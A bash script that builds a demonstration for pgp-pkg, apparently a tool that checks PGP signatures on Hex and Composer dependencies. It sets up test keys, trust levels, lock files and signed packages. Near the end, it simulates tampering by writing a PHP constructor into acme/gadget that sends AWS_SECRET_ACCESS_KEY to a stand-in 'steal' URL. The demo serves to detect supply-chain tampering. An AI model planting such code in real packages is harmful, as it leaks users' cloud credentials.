#!/usr/bin/env bash
# Rebuilds the shipped example (README's main command) from the test keys and
# the real Hex fixtures. Run from anywhere; needs a built pgp-pkg.
#
#   examples/home      the user's pgp-pkg home: Alice is the user (own key);
#                      she has certified Carol (locally); Bob is known but
#                      unauthenticated.
#   examples/project   a project with a mix.lock and a composer.lock, their
#                      installed trees (deps/, vendor/) and signatures/.
#
# Outcome: foo (Alice, ultimate), bar (Carol, full), widget (Bob, unknown:
# a warning), a :git dependency (unverifiable), and acme/gadget, whose
# installed code was changed after Alice signed it (checksum-mismatch).
set -euo pipefail
cd "$(dirname "$0")"
bin=${PGP_PKG_BIN:-$(cd .. && pwd)/target/debug/pgp-pkg}
keys=../testkeys
rm -rf home project
mkdir -p project/deps project/vendor project/signatures
export PGP_PKG_HOME=$PWD/home
"$bin" key import $keys/alice.sec.asc $keys/bob.pub.asc $keys/carol.pub.asc >/dev/null
"$bin" key certify C3D98BE4632B34E3E6AA44914BA7DE17AA6A86FD "Carol Coder (TEST KEY) <carol@example.org>" >/dev/null
# Carol signs here with her own secret key, in a throw-away home.
carol_home=$(mktemp -d)
trap 'rm -rf "$carol_home"' EXIT
PGP_PKG_HOME=$carol_home "$bin" key import $keys/carol.sec.asc >/dev/null

# Hex: install foo and bar into deps/ as Hex does, and lock them.
lock="%{\n"
for pkg in bar foo; do
  tar=../tests/fixtures/hex/$pkg-1.0.0.tar
  dir=project/deps/$pkg
  tmp=$(mktemp -d)
  tar -xf "$tar" -C "$tmp"
  mkdir -p "$dir"
  tar -xzf "$tmp/contents.tar.gz" -C "$dir"
  cp "$tmp/metadata.config" "$dir/hex_metadata.config"
  printf 'hex' > "$dir/.hex"
  rm -rf "$tmp"
  inner=$("$bin" checksum "$tar" | sed -n 's/^hex-inner-checksum //p')
  outer=$("$bin" checksum "$tar" | sed -n 's/^hex-outer-checksum //p')
  lock+="  \"$pkg\": {:hex, :$pkg, \"1.0.0\", \"$inner\", [:mix], [], \"hexpm\", \"$outer\"},\n"
  mkdir -p project/signatures/hex/$pkg
done
lock+="  \"plug_dev\": {:git, \"https://example.invalid/plug_dev.git\", \"0123456789abcdef0123456789abcdef01234567\", [branch: \"main\"]},\n}\n"
printf '%b' "$lock" > project/mix.lock
"$bin" sign ../tests/fixtures/hex/foo-1.0.0.tar --output project/signatures/hex/foo/1.0.0.asc 2>/dev/null
PGP_PKG_HOME=$carol_home "$bin" sign ../tests/fixtures/hex/bar-1.0.0.tar --output project/signatures/hex/bar/1.0.0.asc 2>/dev/null

# Composer: two packages installed in vendor/, signed from their trees.
for pkg in widget gadget; do
  dir=project/vendor/acme/$pkg
  mkdir -p "$dir/src"
  printf '{\n    "name": "acme/%s",\n    "description": "pgp-pkg example package",\n    "autoload": {"psr-4": {"Acme\\\\%s\\\\": "src/"}}\n}\n' "$pkg" "${pkg^}" > "$dir/composer.json"
  printf '<?php\n\nnamespace Acme\\%s;\n\nfinal class %s\n{\n}\n' "${pkg^}" "${pkg^}" > "$dir/src/${pkg^}.php"
  mkdir -p project/signatures/composer/acme/$pkg
done
# Bob's key is RSA: he signs through gpg (sign --gpg), as RSA authors do.
gnupg=$(mktemp -d)
trap 'rm -rf "$carol_home" "$gnupg"' EXIT
GNUPGHOME=$gnupg gpg --batch --quiet --import $keys/bob.sec.asc
GNUPGHOME=$gnupg "$bin" sign project/vendor/acme/widget --version 1.0.0 --gpg \
  --key 4752C0A28C7DB6A5190D69909C9EE3BA183CAB1C --output project/signatures/composer/acme/widget/1.0.0.asc 2>/dev/null
GNUPGHOME=$gnupg gpgconf --kill all >/dev/null 2>&1 || true
"$bin" sign project/vendor/acme/gadget --version 2.1.0 --output project/signatures/composer/acme/gadget/2.1.0.asc 2>/dev/null
cat > project/composer.lock <<'JSON'
{
    "_readme": ["pgp-pkg example: a composer.lock with two packages"],
    "packages": [
        {
            "name": "acme/gadget",
            "version": "2.1.0",
            "dist": {"type": "zip", "url": "https://example.invalid/acme/gadget/2.1.0.zip", "reference": "example", "shasum": ""}
        },
        {
            "name": "acme/widget",
            "version": "1.0.0",
            "dist": {"type": "zip", "url": "https://example.invalid/acme/widget/1.0.0.zip", "reference": "example", "shasum": ""}
        }
    ],
    "packages-dev": []
}
JSON
# The attack: gadget's installed code changed after it was signed.
printf '<?php\n\nnamespace Acme\\Gadget;\n\nfinal class Gadget\n{\n    public function __construct() { file_get_contents("https://example.invalid/steal?" . getenv("AWS_SECRET_ACCESS_KEY")); }\n}\n' \
  > project/vendor/acme/gadget/src/Gadget.php
rm -rf home/lock home/cache
echo "example rebuilt in $(pwd)"
